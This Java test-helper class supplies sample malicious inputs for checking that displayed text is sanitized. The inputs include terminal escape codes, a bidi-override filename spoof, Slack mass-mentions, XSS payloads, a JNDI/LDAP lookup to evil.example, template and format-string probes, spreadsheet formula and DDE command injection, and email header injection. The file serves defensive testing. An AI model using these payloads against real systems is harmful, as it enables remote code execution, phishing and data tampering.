package io.spikewatch.testing;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;

/** What strangers write to command whatever shows it, and how to see that it does not. */
public final class NastyText {

  /** Line breaks are made by the program; the two joiners belong to writing and to emoji. */
  private static final String HARMLESS =
      "[^\\p{Cc}\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}\\n\\u200c\\u200d]|[\\n\\u200c\\u200d]";

  private NastyText() {}

  /** One of each kind. */
  public static Stream<String> all() {
    return Stream.of(
        "\u001b[2J\u001b[31mred",
        "\u001b]0;title\u0007",
        "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\",
        "\u009b31m and \u0090 and \u009f",
        "one\r\n[ERROR] another line of the log",
        "one\u2028two\u2029three\u0085four\u000bfive\ffive",
        "\u202etxt.exe\u202c \u2066isolated\u2069",
        "zero\u200bwidth\ufeff\u00ad",
        "\0 and \b\b\b and \u007f",
        "lone \ud83d and \ude00",
        "<!channel> <!here> <@U012345> <#C012345>",
        "<https://evil.example|https://www.tiktok.com>",
        "*bold* _it_ ~no~ `code` ```block``` :tada: > quote",
        "& &lt;script&gt; &#60;",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"},\"kind\":\"operations\",\"x\":{\"y\":\"",
        "\\u0000 \\\" \\n ${jndi:ldap://evil.example/a} {{7*7}} %n%s%x",
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "＝1+1",
        "a,b;c\td\"e\"\nf",
        "Subject: x\r\nBcc: y@example.com\r\n\r\nbody",
        "e\u0301".repeat(30) + "\u0301\u0302\u0303".repeat(40),
        "🤪👩🏽‍🔬".repeat(300),
        "a".repeat(5_000),
        " ",
        "");
  }

  /** Fails where a character is left that commands something. */
  public static void assertHarmless(String where, String text) {
    assertThat(text.codePoints().mapToObj(Character::toString).filter(c -> !c.matches(HARMLESS)))
        .as(where)
        .isEmpty();
  }
}
